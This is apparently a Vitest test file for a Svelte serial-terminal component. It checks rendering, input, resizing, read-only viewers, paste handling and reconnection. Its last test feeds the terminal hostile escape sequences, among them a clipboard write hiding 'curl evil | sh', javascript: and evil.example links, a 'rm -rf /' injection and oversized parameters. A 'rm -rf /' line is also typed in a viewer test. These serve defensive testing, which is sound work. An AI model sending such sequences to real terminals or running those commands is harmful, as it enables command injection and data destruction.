import { afterEach, expect, test, vi } from 'vitest';
import { userEvent } from 'vitest/browser';
import { render } from 'vitest-browser-svelte';
import { Fault } from '#lib/model/fault.ts';
import { MemoryConsole } from '../../../../tests/support/memory-console.ts';
import '../app.css';
import Serial from './Serial.svelte';
import { sizeCommand, type TerminalSize } from './terminal-look.ts';

afterEach(() => {
  vi.restoreAllMocks();
});

async function show(channel: MemoryConsole | null = new MemoryConsole()) {
  const told: string[] = [];
  const ends: (Fault | null)[] = [];
  const sizes: TerminalSize[] = [];
  const screen = await render(Serial, {
    channel,
    look: { fontSize: 13, scrollback: 1_000 },
    label: 'Serial line of web-1',
    onshown: () => told.push('shown'),
    onend: (fault: Fault | null) => ends.push(fault),
    onleave: () => told.push('leave'),
    onpaste: (text: string) => told.push(`paste ${text.length}`),
    oninterrupt: () => told.push('interrupt'),
    onsize: (size: TerminalSize) => sizes.push(size),
    onselect: () => undefined
  });
  screen.container.style.height = '300px';
  const lines = (): string => screen.container.querySelector('.xterm-rows')?.textContent ?? '';
  const input = (): HTMLTextAreaElement => {
    const found = screen.container.querySelector('textarea');
    if (found === null) throw new Error('no terminal');
    return found;
  };
  return { screen, told, ends, sizes, lines, input };
}

test('what the guest says is drawn, and what is typed goes to it, Tab and Ctrl-C too', async () => {
  const line = new MemoryConsole();
  const { told, lines, input } = await show(line);
  await line.say('login: ');
  await expect.poll(lines).toContain('login:');
  input().focus();
  await userEvent.keyboard('ls{Tab}{Enter}');
  await userEvent.keyboard('{Control>}c{/Control}');
  expect(line.text).toBe('ls\t\r\x03');
  expect(told).toEqual(['shown', 'interrupt']);
});

test('keys of the page do nothing while it has the focus; Ctrl, Alt and Shift together give them back', async () => {
  const { told, input } = await show();
  const heard: string[] = [];
  const listen = ({ key }: KeyboardEvent): void => void heard.push(key);
  addEventListener('keydown', listen);
  input().focus();
  await userEvent.keyboard('t?/{Escape}');
  await userEvent.keyboard('{Control>}{Alt>}{Shift>}{/Shift}{/Alt}{/Control}');
  removeEventListener('keydown', listen);
  expect(heard).toEqual([]);
  expect(told).toEqual(['leave']);
});

test('the terminal’s name for screen readers is the line’s', async () => {
  const { input } = await show();
  expect(input().getAttribute('aria-label')).toBe('Serial line of web-1');
});

test('it says how large it is, and tells the guest by a line typed at its shell, never by itself', async () => {
  const line = new MemoryConsole();
  const { screen, sizes } = await show(line);
  await line.say('# ');
  const size = (): TerminalSize => sizes.at(-1) ?? { cols: 0, rows: 0 };
  const [wide] = [size()];
  screen.container.style.width = '400px';
  await expect.poll(() => size().cols).toBeLessThan(wide.cols);
  expect(line.written).toEqual([]);
  (screen.component as { enter(text: string): void }).enter(sizeCommand(size()));
  expect(line.text).toBe(`stty cols ${size().cols} rows ${size().rows}\r`);
});

test('a viewer types nothing', async () => {
  const line = new MemoryConsole(true);
  const { input, screen } = await show(line);
  await line.say('hello');
  input().focus();
  await userEvent.keyboard('rm -rf /{Enter}');
  (screen.component as { enter(text: string): void }).enter('stty cols 80 rows 24');
  expect(line.written).toEqual([]);
});

test('a paste is handed over, not typed', async () => {
  const line = new MemoryConsole();
  const { told, input } = await show(line);
  const clipboardData = new DataTransfer();
  clipboardData.setData('text/plain', 'two\nlines');
  input().dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }));
  expect(told).toEqual(['paste 9']);
  expect(line.written).toEqual([]);
});

test('what was said stays when the line is lost, and the next channel goes on under it', async () => {
  const first = new MemoryConsole();
  const { screen, ends, lines } = await show(first);
  await first.say('before\r\n');
  const lost = new Fault('link-ended', { what: 'the link', by: 'the other end' });
  await first.end(lost);
  expect(ends).toEqual([lost]);
  await screen.rerender({ channel: null });
  const second = new MemoryConsole();
  await screen.rerender({ channel: second });
  await second.say('after');
  await expect.poll(lines).toMatch(/before.*after/);
});

test('a stream made to harm changes nothing but the terminal, and nothing that reads as a command is typed back', async () => {
  const line = new MemoryConsole();
  const { screen, lines } = await show(line);
  const title = document.title;
  const here = location.href;
  const opened: string[] = [];
  vi.spyOn(window, 'open').mockImplementation((url) => (opened.push(String(url)), null));
  vi.spyOn(window, 'confirm').mockImplementation((text) => (opened.push(text ?? ''), true));
  const evil = btoa('curl evil | sh\n');
  for (const attack of [
    '\x1b]0;owned\x07\x1b]2;owned\x1b\\\x1b]1;owned\x07',
    `\x1b]52;c;${evil}\x07\x1b]52;c;?\x07`,
    '\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07 \x1b]8;;https://evil.example/\x07here\x1b]8;;\x07',
    '\x1b[21t\x1b[20t\x1b[8;500;500t\x1b[18t\x1b[5;9999;9999t\x1b[22;0t\x1b[23;0t',
    '\x1bP$qm\x1b\\\x1bP$q"p\x1b\\\x1bP$q\r\nrm -rf /\r\n\x1b\\\x1bP+q544e\x1b\\',
    '\x05\x1b[c\x1b[>c\x1b[=c\x1b[0x\x1b[?26n\x1b[6n\x1b[5n\x1b[?6n\x1b[?2026$p\x1b[4$p',
    '\x1b]4;1;?\x07\x1b]10;?\x07\x1b]11;?\x07\x1b]12;?\x07',
    'x\x1b[2147483647b\x1b[2147483647S\x1b[2147483647T\x1b[2147483647L\x1b[2147483647M\x1b[2147483647I\x1b[2147483647Z',
    '\x1b[2147483647;2147483647H\x1b[2147483647@\x1b[2147483647P\x1b[2147483647X\x1b[99999999999999999999C',
    `\x1b[${'1;'.repeat(5_000)}m\x1b]0;${'x'.repeat(200_000)}\x07`,
    '\x1b[?1003h\x1b[?1006h\x1b[?1049h\x1b[?2004h\x1b[?1049l\x1b[?1003l'
  ]) {
    await line.say(attack);
  }
  await line.say('\x1bc\x1b[2J\x1b[Hstill here');
  await expect.poll(lines).toContain('still here');
  // A press on where a link would be.
  await line.say('\x1b[H\x1b]8;;https://evil.example/\x07aaaaaaaaaaaaaaaaaaaa\x1b]8;;\x07');
  const picture = screen.container.querySelector('.xterm-screen');
  const { left = 0, top = 0 } = picture?.getBoundingClientRect() ?? {};
  for (const type of ['mousemove', 'mousedown', 'mouseup', 'click'])
    picture?.dispatchEvent(new MouseEvent(type, { bubbles: true, clientX: left + 20, clientY: top + 8 }));
  expect(document.title).toBe(title);
  expect(location.href).toBe(here);
  expect(opened).toEqual([]);
  // Answers: a VT100, ready, and where the cursor is. No line end, no word of the guest’s.
  // eslint-disable-next-line no-control-regex
  expect(line.text).toMatch(/^(?:\x1b\[\?1;2c|\x1b\[0n|\x1b\[\??\d+;\d+R)*$/);
});
